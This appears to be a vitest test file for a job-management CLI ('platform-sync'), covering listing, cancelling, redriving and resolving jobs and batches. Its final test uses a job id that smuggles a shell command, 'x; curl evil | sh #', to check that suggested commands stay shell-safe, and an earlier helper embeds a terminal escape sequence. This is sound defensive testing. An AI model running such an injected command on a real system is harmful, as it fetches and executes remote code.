import { randomUUID } from 'node:crypto';
import { expect, test } from 'vitest';
import { splitBatch } from '../../lib/jobs/texts/batch/score-file.ts';
import { createScoreCache } from '../../lib/jobs/texts/cache/score-cache.ts';
import { createDirectoryStore } from '../../lib/store/directory.ts';
import { row, rowsOf } from '../jobs/texts/fakes.ts';
import { adds, lines, startJobs, throws } from './start-jobs.ts';

type Jobs = Awaited<ReturnType<typeof startJobs>>;

const request = (id: string) => ({ id, type: 'sco\u001b[2Jre', contentHash: 'c', sender: 's' });

/** A job whose request was recorded as sent hours ago, by a worker that no longer runs. */
async function sentLongAgo({ ledgerAt }: Jobs, id: string) {
  const ledger = ledgerAt(() => Date.parse('2026-11-20T09:00:00Z'));
  await ledger.claim(request(id), { leaseMs: 60_000 });
  await ledger.sent({ id, fence: 1 });
}

async function unknown(jobs: Jobs, id: string) {
  await sentLongAgo(jobs, id);
  await jobs.ledgerAt().claim(request(id), { leaseMs: 60_000 });
}

test('jobs are listed as a table, newest first, without the platform', async () => {
  await using jobs = await startJobs();
  await jobs.workOff(throws('thrown'));
  await sentLongAgo(jobs, 'old');

  const { code, out } = await jobs.runWithoutPlatform(['jobs']);

  const rows = out.split('\n');
  expect(code).toBe(0);
  expect(rows[0]).toMatch(/^ID +TYPE +STATUS +ATTEMPTS +STARTED +FINISHED +ERROR$/);
  expect(rows[1]).toMatch(
    /^thrown +run-function +failed +1 +\d{4}-\S+Z +\d{4}-\S+Z +execution: execution \S+ ended with FAILED: .+$/,
  );
  expect(rows[2]).toMatch(/^old +sco {0,2}re +sent +1 +2026-11-20T09:00:00.000Z +-$/);
  expect(rows.slice(3)).toEqual([
    expect.stringMatching(
      /^on the queue: (nothing|.* queued, \d+ being worked on or delayed, \d+ sent with a delay)$/,
    ),
    expect.stringMatching(/^dead letters: \d+$/),
  ]);
  expect(out).not.toContain('\u001b');
});

test('--status and --limit filter the list, and the output says how many more jobs there are', async () => {
  await using jobs = await startJobs();
  await sentLongAgo(jobs, 'old');
  for (const id of ['a', 'b', 'c']) await jobs.ledgerAt().cancel(id);

  const { out, err } = await jobs.runWithoutPlatform([
    'jobs',
    '--status',
    'failed',
    '--limit',
    '1',
    '--json',
  ]);

  expect(JSON.parse(out)).toMatchObject([{ type: null, status: 'failed', error: { kind: 'cancelled' } }]);
  expect(err).toBe('2 earlier jobs not listed; use --limit to list more');
});

test('a job is shown by its result, or by its row in the ledger; an unknown id exits 1', async () => {
  await using jobs = await startJobs();
  await jobs.workOff(adds('sum'));
  await sentLongAgo(jobs, 'old');

  const ended = await jobs.runWithoutPlatform(['jobs', 'sum']);
  const known = await jobs.runWithoutPlatform(['jobs', 'old', '--json']);
  const other = await jobs.runWithoutPlatform(['jobs', 'other']);

  expect([ended.code, known.code]).toEqual([0, 0]);
  expect(JSON.parse(ended.out)).toMatchObject({ id: 'sum', status: 'done', response: { result: 42 } });
  expect(JSON.parse(known.out)).toMatchObject({ id: 'old', status: 'sent', attempts: 1, finishedAt: null });
  expect(other).toEqual({ code: 1, out: '', err: 'platform-sync: job other: not in the ledger' });
});

test('a mistyped id cancels nothing, and the error names the nearest known id', async () => {
  await using jobs = await startJobs({ isInAws: false });
  await jobs.workOff(adds('nightly-1'));
  await jobs.run(['submit', '-'], lines([adds('queued-7')]));

  const ofLedger = await jobs.runWithoutPlatform(['jobs', 'cancel', 'queued-7', 'nightly-l']);
  const ofQueue = await jobs.runWithoutPlatform(['jobs', 'cancel', 'queued-8']);

  expect([ofLedger.code, ofLedger.err]).toEqual([
    1,
    'platform-sync: job nightly-l: neither in the ledger nor on the queue; did you mean nightly-1?',
  ]);
  expect([ofQueue.code, ofQueue.err]).toEqual([1, expect.stringContaining('did you mean queued-7?')]);
  expect(await jobs.ledgerAt().read('queued-7')).toBeUndefined();
});

test('cancel says what happened to each job; a cancelled job is not sent and not reopened', async () => {
  await using jobs = await startJobs();
  await jobs.workOff(adds('done'));
  await sentLongAgo(jobs, 'sent');
  await jobs.run(['submit', '-'], lines([adds('early')]));

  const { code, out } = await jobs.runWithoutPlatform(['jobs', 'cancel', 'early', 'sent', 'done']);
  const again = await jobs.runWithoutPlatform(['jobs', 'cancel', 'early', '--json']);
  const redriven = await jobs.runWithoutPlatform(['redrive', 'early']);
  await jobs.workOff(adds('early'));

  expect([code, again.code, redriven.code]).toEqual([3, 0, 3]);
  expect(out.split('\n')).toEqual([
    'early: cancelled; no worker has received its message yet',
    'sent: already sent; it cannot be cancelled',
    'done: already ended as done',
  ]);
  expect(JSON.parse(again.out)).toMatchObject([{ id: 'early', became: 'ended', status: 'failed' }]);
  // Its message is not among the dead letters.
  expect(redriven.out.split('\n')).toEqual([
    'nothing was reopened',
    'left unchanged: 1',
    '  early (cancelled)',
  ]);
  expect(jobs.sandbox.counts().executions).toHaveLength(1);
});

test('redrive reopens failed jobs, moves dead letters back, and names unknown jobs; with ids it affects only those', async () => {
  await using jobs = await startJobs();
  await jobs.workOff(adds('sum'), throws('thrown'));
  await jobs.deadLetters.send([lines([adds('dead')]).trim()]);
  await unknown(jobs, 'nobody-knows');

  const named = await jobs.runWithoutPlatform(['redrive', 'sum', 'nobody-knows', '--json']);
  const { waiting } = await jobs.countsOf(jobs.deadLetters);
  const unasked = await jobs.runWithoutPlatform(['redrive', 'thrown']);
  const unchanged = await jobs.runWithoutPlatform(['redrive', '--json']);
  const { code, out, err } = await jobs.runWithoutPlatform(['redrive', '--executed', '--yes']);
  const worked = JSON.parse((await jobs.run(['work', '--drain', '--json'])).out);

  expect(named.code).toBe(3);
  expect(JSON.parse(named.out)).toEqual({
    opened: [],
    left: [
      { id: 'sum', status: 'done', why: null },
      { id: 'nobody-knows', status: 'unknown', why: null },
    ],
    notSent: [],
    unknown: ['nobody-knows'],
    movedBack: null,
    held: null,
  });
  expect({ code, waiting }).toEqual({ code: 0, waiting: 1 });
  expect(unasked).toMatchObject({
    code: 2,
    err: expect.stringContaining(
      '--yes is required: this command runs jobs again that were already executed',
    ),
  });
  expect(JSON.parse(unchanged.out)).toMatchObject({
    opened: [],
    left: [{ id: 'thrown', status: 'failed', why: 'executed' }],
    movedBack: 1,
  });
  expect(err).toMatch(
    /executed by the platform, to be run again:\n {2}thrown \(run-function\): execution .+ ended with FAILED/,
  );
  expect(out.split('\n')).toEqual([
    'reopened, and on the queue again: 1 job',
    '  thrown',
    'to run them here: platform-sync work --drain',
    'dead letters moved back: 0',
    'unknown, never reopened: 1; they may have been executed, so check each of them on the platform',
    '  nobody-knows',
  ]);
  expect(worked).toMatchObject({ done: 1, failed: 1 });
});

test('for an id that the ledger does not have, redrive names the nearest one, and reopens nothing', async () => {
  await using jobs = await startJobs();
  await jobs.workOff(throws('thrown-1'));

  const redriven = await jobs.runWithoutPlatform(['redrive', 'thrown-1', 'thrown-2', '--yes']);
  const shown = await jobs.runWithoutPlatform(['jobs', 'thrown-2']);

  for (const { code, out, err } of [redriven, shown])
    expect([code, out, err]).toEqual([
      1,
      '',
      'platform-sync: job thrown-2: not in the ledger; did you mean thrown-1?',
    ]);
  expect(JSON.parse((await jobs.runWithoutPlatform(['jobs', '--json'])).out)).toMatchObject([
    { status: 'failed' },
  ]);
});

test('resolve settles an unknown job with a person’s statement, in the ledger and in its result', async () => {
  await using jobs = await startJobs();
  const asked = { ...request('nobody-knows'), type: 'run-function' };
  await jobs.ledgerAt().claim(asked, { leaseMs: 60_000 });
  await jobs
    .ledgerAt()
    .end(
      { id: asked.id, fence: 1 },
      { status: 'unknown', error: { kind: 'timeout', message: 'no response' } },
    );
  const resolve = (...more: readonly string[]) =>
    jobs.runWithoutPlatform(['jobs', 'resolve', 'nobody-knows', ...more]);

  const first = await resolve('done', '--note', 'its execution is listed');
  const again = await resolve('done', '--note', 'its execution is listed', '--json');
  const other = await resolve('failed', '--note', 'it is not');

  expect(first).toMatchObject({ code: 0, out: 'nobody-knows: settled as done' });
  expect(JSON.parse(again.out)).toEqual({ id: 'nobody-knows', became: 'resolved', status: 'done' });
  expect(other).toMatchObject({
    code: 3,
    out: 'nobody-knows: done; only a job whose outcome is unknown can be settled',
  });
  const { out } = await jobs.runWithoutPlatform(['jobs', 'nobody-knows']);
  expect(JSON.parse(out)).toMatchObject({ status: 'done', note: 'its execution is listed' });
});

test('cancel --batch ends a batch that has not begun, with a summary; redrive --batch then scores it', async () => {
  await using jobs = await startJobs();
  const { table, folder } = jobs;
  const parts = { table, now: Date.now, newToken: randomUUID };
  const cache = createScoreCache({ ...parts, attemptMs: 60_000, host: 'h', owner: 'o' });
  await splitBatch(
    { batch: 'b1', request: {}, rows: rowsOf([row(1, 'a good day'), row(2, 'a bad day')]), host: 'h' },
    { ...parts, store: createDirectoryStore(folder), cache, rate: 2, send: async () => undefined },
  );

  const first = await jobs.runWithoutPlatform(['jobs', 'cancel', '--batch', 'b1']);
  const again = await jobs.runWithoutPlatform(['jobs', 'cancel', '--batch', 'b1', '--json']);
  const summary = await jobs.readJson('scores/b1/_summary.json');
  const redriven = await jobs.runWithoutPlatform(['redrive', '--batch', 'b1']);
  await jobs.run(['work', '--drain']);

  expect(first).toMatchObject({
    code: 0,
    out: 'batch b1: 0 of 1 chunks had already ended\n  b1.chunk-00000: cancelled; no worker has received its message yet',
  });
  expect(JSON.parse(again.out)).toEqual({ batch: 'b1', chunks: 1, ended: 1, isSplit: true, jobs: [] });
  expect(summary).toMatchObject({ failed: 2, cancelled: 2 });
  expect(redriven).toMatchObject({
    code: 0,
    out: 'reopened, and on the queue again: 1 job\n  b1.chunk-00000\nto run them here: platform-sync work --drain',
  });
  expect(await jobs.readJson('scores/b1/_summary.json')).toMatchObject({ scored: 2, failed: 0 });
});

test('a batch that is not in the ledger is named, and the command exits 1', async () => {
  await using jobs = await startJobs();

  for (const argv of [['jobs', 'cancel'], ['redrive']]) {
    const { code, err } = await jobs.runWithoutPlatform([...argv, '--batch', 'b1']);
    expect({ code, err }).toEqual({ code: 1, err: 'platform-sync: batch b1: not in the ledger' });
  }
});

test('no suggested command has an id that would be unsafe in a shell', async () => {
  await using jobs = await startJobs();
  const id = 'x; curl evil | sh #';
  await sentLongAgo(jobs, id);
  await unknown(jobs, id);
  await jobs.ledgerAt().cancel(`failed ${id}`);
  await jobs.queue.send([JSON.stringify({ ...adds(id), version: 1 })]);

  const shown = [
    await jobs.run(['work', '--drain']),
    await jobs.run(['jobs']),
    await jobs.run(['jobs', id]),
    await jobs.run(['redrive', id]),
    await jobs.run(['redrive']),
    await jobs.run(['redrive', '--json']),
  ];

  const lineOf = ({ out, err }: { readonly out: string; readonly err: string }) =>
    `${out}\n${err}`.split('\n');
  expect(shown.map(({ code }) => code)).toEqual([3, 0, 2, 2, 0, 0]);
  expect(shown.flatMap(lineOf).filter((line) => /platform-sync [a-z].*curl/.test(line))).toEqual([]);
});
